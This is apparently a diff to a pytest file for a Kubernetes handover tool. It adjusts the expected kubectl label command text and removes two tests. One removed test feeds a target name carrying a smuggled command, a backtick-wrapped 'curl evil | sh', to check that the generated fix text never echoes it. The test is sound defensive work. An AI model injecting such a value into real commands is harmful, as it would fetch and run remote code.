@@ -8,11 +8,11 @@ from handler.config.git import Repository
 from handler.config.settings import Target
 from handler.model.errors import RenderFailed
 from handler.model.manifest import Manifest
-from handler.model.names import IDENTITY, PART_OF, Identity
+from handler.model.names import Identity
 from handler.model.plan import Action, Change
 from handler.model.resource import Resource
 from handler.plan.admit import Desired
-from handler.plan.handover import Declared, Standing, as_ours, kept_for, mark_of, may_declare, refused, refused_to_strangers, taken_from
+from handler.plan.handover import Declared, Standing, kept_for, may_declare, refused, refused_to_strangers, taken_from
 from handler.plan.prune import needs_asking
 
 B = Target("b", Repository("https://git.example.com/acme/shop.git"), ("shop",), cluster_scoped=("Namespace", "ClusterRole"))
@@ -88,14 +88,8 @@ def test_a_taker_takes_nothing_from_who_cannot_be_rendered() -> None:
 
 def test_the_commands_name_kind_group_namespace_and_name() -> None:
     fix = refused_to_strangers(ITEM, "c", "b").fix
-    assert "`kubectl label deployment.apps x -n shop applyset.kubernetes.io/part-of-`" in fix
+    assert "`kubectl label Deployment.apps/x -n shop applyset.kubernetes.io/part-of-`" in fix
     assert fix.index("anneal suspend c") < fix.index("kubectl label") < fix.index("anneal apply b") < fix.index("anneal resume c")
-
-
-def test_no_command_repeats_what_a_live_mark_holds_otherwise_than_a_name() -> None:
-    fix = refused_to_strangers(ITEM, "x`; curl evil | sh; `", "b").fix
-    assert "curl" not in fix
-    assert "anneal suspend TARGET" in fix
 
 
 def test_what_is_taken_over_is_always_written() -> None:
@@ -103,14 +97,6 @@ def test_what_is_taken_over_is_always_written() -> None:
     assert (change.action, change.sibling, change.reason) == (Action.UPDATE, "c", "taken over from c")
     again = taken_from("c", Change(Action.RECREATE, X, "u", "1", "an immutable field changed"))
     assert (again.action, again.reason) == (Action.RECREATE, "taken over from c; an immutable field changed")
-
-
-def test_marks_are_read_only_where_they_name_exactly_the_object() -> None:
-    live = {**BODY, "metadata": {**BODY["metadata"], "annotations": {IDENTITY: X.mark("c")}}}  # type: ignore[dict-item]  # a mapping
-    assert mark_of(live, X) == "c"
-    assert mark_of(live, Identity("apps", "Deployment", "shop", "copy")) == ""
-    ours = as_ours(live, X, "b", "set")
-    assert (ours["metadata"]["labels"][PART_OF], mark_of(ours, X), mark_of(live, X)) == ("set", "b", "c")
 
 
 @pytest.mark.parametrize(
